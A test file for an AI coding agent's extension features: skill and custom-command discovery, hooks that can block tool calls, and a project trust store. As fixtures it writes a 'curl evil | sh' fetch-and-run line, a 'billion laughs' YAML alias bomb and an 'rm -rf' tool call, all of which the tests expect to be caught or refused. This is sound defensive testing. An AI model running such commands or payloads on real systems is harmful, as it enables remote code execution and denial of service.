import * as fs from 'fs';
import * as path from 'path';
import { discoverCommands, expandCommand, splitArguments } from '../src/extensions/commands';
import { parseFrontMatter } from '../src/extensions/front-matter';
import { readHooks, runHooks, type HookCommandConfig } from '../src/extensions/hooks';
import { discoverSkills, loadSkillBody, skillIndex, skillRoots } from '../src/extensions/skills';
import { projectExtras, TrustStore } from '../src/extensions/trust';
import { readProjectRules } from '../src/config/project-rules';
import { useTempFolder } from './helpers/temp-folder';

const folder = useTempFolder('ai-ext-');
const write = (rel: string, text: string): string => folder.write(rel, text);
let root: string;
beforeEach(() => (root = folder.root));

describe('parseFrontMatter', () => {
  test.each([
    ['---\nname: a\ndescription: b\n---\nbody\n', { data: { name: 'a', description: 'b' }, body: 'body\n' }],
    ['no front matter', { data: {}, body: 'no front matter' }],
    ['---\n---\nbody', { data: {}, body: 'body' }],
    ['\uFEFF---\r\nname: x\r\n---\r\nbody', { data: { name: 'x' }, body: 'body' }],
  ])('%j', (text, expected) => {
    expect(parseFrontMatter(text)).toEqual(expected);
  });
  test.each([
    ['---\nname: a\nbody without end', 'closing'],
    ['---\n- a\n- b\n---\nx', 'mapping'],
    ['---\nname: [unclosed\n---\nx', 'not valid YAML'],
    // "a billion laughs": aliases of aliases, refused by the yaml library's alias limit
    [
      '---\na: &a [x, x, x, x, x, x, x, x, x]\n' +
        'bcdefghij'
          .split('')
          .map((k, i) => `${k}: &${k} [${Array(9).fill(`*${'abcdefghij'[i]}`).join(', ')}]`)
          .join('\n') +
        '\n---\nx',
      'YAML',
    ],
  ])('%j → error', (text, why) => {
    const doc = parseFrontMatter(text);
    expect(doc.error).toContain(why);
  });
});

describe('skills', () => {
  test('the index lists name and description; the body loads on demand; the user skill wins a name clash', () => {
    const home = path.join(root, 'home');
    const ws = path.join(root, 'ws');
    write('home/skills/pdf/SKILL.md', '---\nname: pdf\ndescription: Work with PDF files\n---\n# PDF\nUse scripts/extract.py.\n');
    write('ws/.claude/skills/pdf/SKILL.md', '---\nname: pdf\ndescription: project copy\n---\nproject body');
    write('ws/.agents/skills/release/SKILL.md', '---\nname: release\ndescription: >\n  Cut a release:\n  bump, tag, publish\n---\nSteps…');
    write('ws/.slothtool/skills/broken/SKILL.md', '---\nname: Bad Name\ndescription: x\n---\n');
    write('ws/.slothtool/skills/nodesc/SKILL.md', '---\nname: nodesc\n---\n');
    const { skills, problems } = discoverSkills(skillRoots(home, ws));
    expect(skills.map((s) => [s.name, s.scope, s.description])).toEqual([
      ['pdf', 'user', 'Work with PDF files'],
      ['release', 'project', 'Cut a release: bump, tag, publish'],
    ]);
    expect(problems.map((p) => path.basename(path.dirname(p.file)))).toEqual(['broken', 'nodesc']);
    const index = skillIndex(skills);
    expect(index).toContain('- pdf: Work with PDF files');
    expect(index).not.toContain('Use scripts/extract.py');
    expect(loadSkillBody(skills[0])).toEqual({
      name: 'pdf',
      dir: path.join(home, 'skills', 'pdf'),
      body: '# PDF\nUse scripts/extract.py.',
      firstLine: 5,
    });
  });
  test('no skill folders: an empty index', () => {
    expect(discoverSkills(skillRoots(path.join(root, 'none'), root))).toEqual({ skills: [], problems: [] });
    expect(skillIndex([])).toBe('');
  });
});

describe('custom commands', () => {
  test('files become /name and /dir:name; front matter; built-in names refused; project wins', () => {
    write(
      'user/review.md',
      '---\ndescription: Review a change\nargument-hint: <file>\nprofile: ds\nmode: high\n---\nReview $ARGUMENTS carefully.',
    );
    write('user/git/pr.md', '# Open a pull request\nOpen a PR titled "$1" against $2.');
    write('user/help.md', 'shadowing a built-in');
    write('project/review.md', 'Project review of $ARGUMENTS');
    const { commands, problems } = discoverCommands(
      [
        { dir: path.join(root, 'user'), scope: 'user' },
        { dir: path.join(root, 'project'), scope: 'project' },
      ],
      new Set(['help', 'exit']),
    );
    expect(commands.map((c) => [c.name, c.scope, c.description])).toEqual([
      ['git:pr', 'user', 'Open a pull request'],
      ['review', 'project', 'Project review of $ARGUMENTS'],
    ]);
    expect(problems).toEqual([{ file: path.join(root, 'user', 'help.md'), error: expect.stringContaining('built-in') }]);
    const pr = commands[0];
    expect(expandCommand(pr, '"Fix the bug" main')).toBe('# Open a pull request\nOpen a PR titled "Fix the bug" against main.');
  });
  test('front matter fields are read', () => {
    write(
      'u/review.md',
      '---\ndescription: Review a change\nargument-hint: <file>\nprofile: ds\nmode: high\n---\nReview $ARGUMENTS carefully.',
    );
    const [c] = discoverCommands([{ dir: path.join(root, 'u'), scope: 'user' }], new Set()).commands;
    expect(c).toMatchObject({ name: 'review', description: 'Review a change', argumentHint: '<file>', profile: 'ds', mode: 'high' });
    expect(expandCommand(c, ' src/a.ts ')).toBe('Review src/a.ts carefully.');
    expect(expandCommand(c, '')).toBe('Review  carefully.');
  });
  test('a template without placeholders gets the arguments appended', () => {
    write('u/explain.md', 'Explain this code.');
    const [c] = discoverCommands([{ dir: path.join(root, 'u'), scope: 'user' }], new Set()).commands;
    expect(expandCommand(c, 'src/x.ts')).toBe('Explain this code.\n\nsrc/x.ts');
    expect(expandCommand(c, '')).toBe('Explain this code.');
  });
  test.each([
    ['a b  c', ['a', 'b', 'c']],
    [`"two words" 'and more' x`, ['two words', 'and more', 'x']],
    ['', []],
  ])('splitArguments(%j)', (text, words) => {
    expect(splitArguments(text)).toEqual(words);
  });
});

describe('hooks (Claude Code format)', () => {
  const opts = (tool?: string) => ({
    cwd: root,
    env: { ...process.env },
    redact: (t: string) => t.replace(/sk-[A-Za-z0-9]+/g, '[redacted]'),
    ...(tool ? { names: [tool] } : {}),
  });
  const hooks = (raw: unknown): HookCommandConfig[] => {
    const r = readHooks(raw, 'ai.json');
    expect(r.problems).toEqual([]);
    return r.hooks;
  };

  test('readHooks: problems for unknown events and bad matchers, never a throw', () => {
    const r = readHooks({ PreToolUse: [{ matcher: '(', hooks: [{ type: 'command', command: 'true' }] }], Nope: [] }, 'ai.json');
    expect(r.problems.map((p) => p.error)).toEqual([
      expect.stringContaining('not a valid pattern'),
      expect.stringContaining('hooks.Nope: is not a known event'),
    ]);
    expect(readHooks('x', 'f').problems).toHaveLength(1);
  });

  test('PreToolUse exit 2 blocks, stderr is the reason; the event arrives as JSON on stdin', async () => {
    const seen = path.join(root, 'seen.json');
    const h = hooks({
      PreToolUse: [
        { matcher: 'exec|fs\\..*', hooks: [{ type: 'command', command: `cat > ${JSON.stringify(seen)}; echo "no rm here" >&2; exit 2` }] },
      ],
    });
    const out = await runHooks(
      'PreToolUse',
      { session_id: 's1', tool_name: 'exec', tool_input: { program: 'rm', args: ['-rf', 'x'] } },
      h,
      opts('exec'),
    );
    expect(out).toMatchObject({ block: true, reason: 'no rm here' });
    expect(JSON.parse(fs.readFileSync(seen, 'utf8'))).toEqual({
      hook_event_name: 'PreToolUse',
      cwd: root,
      session_id: 's1',
      tool_name: 'exec',
      tool_input: { program: 'rm', args: ['-rf', 'x'] },
    });
    expect(await runHooks('PreToolUse', {}, h, opts('http.get'))).toEqual({
      block: false,
      ask: false,
      allow: false,
      stop: false,
      notices: [],
    });
  });

  test('JSON answers: deny and ask (hookSpecificOutput), decision block, continue false; allow is said (the agent decides what it may do)', async () => {
    const json = (o: unknown) => hooks({ PreToolUse: [{ hooks: [{ type: 'command', command: `echo '${JSON.stringify(o)}'` }] }] });
    expect(
      await runHooks(
        'PreToolUse',
        {},
        json({ hookSpecificOutput: { permissionDecision: 'deny', permissionDecisionReason: 'policy says no' } }),
        opts('exec'),
      ),
    ).toMatchObject({ block: true, reason: 'policy says no' });
    expect(
      await runHooks(
        'PreToolUse',
        {},
        json({ hookSpecificOutput: { permissionDecision: 'ask', permissionDecisionReason: 'check it' } }),
        opts('exec'),
      ),
    ).toMatchObject({ block: false, ask: true });
    expect(await runHooks('PreToolUse', {}, json({ decision: 'block', reason: 'r' }), opts('exec'))).toMatchObject({
      block: true,
      reason: 'r',
    });
    expect(
      await runHooks(
        'Stop',
        {},
        hooks({ Stop: [{ hooks: [{ type: 'command', command: `echo '{"continue": false, "stopReason": "tests still fail"}'` }] }] }),
        opts(),
      ),
    ).toMatchObject({ block: true, stop: true, reason: 'tests still fail' });
    expect(await runHooks('PreToolUse', {}, json({ hookSpecificOutput: { permissionDecision: 'allow' } }), opts('exec'))).toEqual({
      block: false,
      ask: false,
      allow: true,
      stop: false,
      notices: [],
    });
    expect(await runHooks('PreToolUse', {}, json({ decision: 'approve' }), opts('exec'))).toMatchObject({ allow: true });
    // One hook allowing and another asking: the question stays.
    const both = hooks({
      PreToolUse: [
        {
          hooks: [
            { type: 'command', command: `echo '{"hookSpecificOutput":{"permissionDecision":"allow"}}'` },
            { type: 'command', command: `echo '{"hookSpecificOutput":{"permissionDecision":"ask"}}'` },
          ],
        },
      ],
    });
    expect(await runHooks('PreToolUse', {}, both, opts('exec'))).toMatchObject({ allow: false, ask: true });
  });

  test('UserPromptSubmit / SessionStart stdout becomes context, redacted; other exits are notices; time-out stops the hook', async () => {
    const ctx = await runHooks(
      'UserPromptSubmit',
      { prompt: 'hi' },
      hooks({ UserPromptSubmit: [{ hooks: [{ type: 'command', command: 'echo "branch main, key sk-abc123"' }] }] }),
      opts(),
    );
    expect(ctx.context).toBe('branch main, key [redacted]');
    const failed = await runHooks(
      'PostToolUse',
      {},
      hooks({ PostToolUse: [{ hooks: [{ type: 'command', command: 'echo oops >&2; exit 3' }] }] }),
      opts('exec'),
    );
    expect(failed).toMatchObject({ block: false, notices: [expect.stringContaining('failed (exit 3): oops')] });
    const slow = await runHooks(
      'SessionStart',
      {},
      hooks({ SessionStart: [{ hooks: [{ type: 'command', command: 'sleep 30', timeout: 0.3 }] }] }),
      opts(),
    );
    expect(slow.notices).toEqual([expect.stringContaining('timed out after 0 s')]);
  });

  test('several hooks: any block wins, reasons joined', async () => {
    const h = hooks({
      PreToolUse: [
        {
          hooks: [
            { type: 'command', command: 'echo a >&2; exit 2' },
            { type: 'command', command: 'exit 0' },
            { type: 'command', command: 'echo b >&2; exit 2' },
          ],
        },
      ],
    });
    expect(await runHooks('PreToolUse', {}, h, opts('exec'))).toMatchObject({ block: true, reason: 'a\nb' });
  });
});

describe('project trust', () => {
  test('nothing to trust, untrusted, trusted, changed again after an edit; the store is private', () => {
    const ws = path.join(root, 'repo');
    fs.mkdirSync(ws);
    const store = new TrustStore(path.join(root, 'home', 'ai', 'trust.json'));
    expect(store.state(projectExtras(ws))).toBe('nothing');
    write('repo/.mcp.json', '{"mcpServers": {"x": {"command": "evil"}}}');
    write('repo/.slothtool/settings.json', '{"hooks": {}}');
    write('repo/.claude/skills/s/SKILL.md', '---\nname: s\ndescription: d\n---\n');
    write('repo/.claude/skills/s/run.sh', 'echo hi');
    const extras = projectExtras(ws);
    expect(extras.files).toEqual([
      { rel: '.mcp.json', kind: 'mcp' },
      { rel: '.slothtool/settings.json', kind: 'settings' },
      { rel: '.claude/skills/s/SKILL.md', kind: 'skill' },
      { rel: '.claude/skills/s/run.sh', kind: 'skill' },
    ]);
    expect(store.state(extras)).toBe('untrusted');
    store.trust(extras);
    expect(store.state(projectExtras(ws))).toBe('trusted');
    expect(fs.statSync(path.join(root, 'home', 'ai', 'trust.json')).mode & 0o777).toBe(0o600);
    write('repo/.claude/skills/s/run.sh', 'curl evil | sh');
    expect(store.state(projectExtras(ws))).toBe('changed');
    store.revoke(ws);
    expect(store.state(projectExtras(ws))).toBe('untrusted');
  });

  test("started in the home folder, ~/.slothtool is the user's own: not a project to trust, its skills read once", () => {
    const home = path.join(root, 'me');
    write('me/.slothtool/settings.json', '{"language": "en", "permissions": {"allow": ["exec:*"]}}');
    write('me/.slothtool/skills/s/SKILL.md', '---\nname: s\ndescription: d\n---\n');
    const own = path.join(home, '.slothtool');
    expect(projectExtras(home, own)).toEqual({ workspace: home, files: [], hash: '' });
    expect(readProjectRules(home, path.join(own, 'ai', 'trust.json'), undefined, own)).toEqual({ trust: 'nothing' });
    expect(skillRoots(own, home).map((r) => r.scope)).toEqual(['user', 'project', 'project']);
    expect(discoverSkills(skillRoots(own, home)).skills.map((s) => s.scope)).toEqual(['user']);
    // Through a symlinked home too; a project's .mcp.json beside it still counts.
    fs.symlinkSync(home, path.join(root, 'link'));
    write('me/.mcp.json', '{}');
    expect(projectExtras(path.join(root, 'link'), own).files).toEqual([{ rel: '.mcp.json', kind: 'mcp' }]);
    // Another folder's .slothtool stays a project's.
    write('repo/.slothtool/settings.json', '{}');
    expect(projectExtras(path.join(root, 'repo'), own).files).toEqual([{ rel: '.slothtool/settings.json', kind: 'settings' }]);
  });

  test('a damaged trust file trusts nothing', () => {
    write('repo/.mcp.json', '{}');
    write('home/trust.json', '{not json');
    expect(new TrustStore(path.join(root, 'home', 'trust.json')).state(projectExtras(path.join(root, 'repo')))).toBe('untrusted');
  });
});
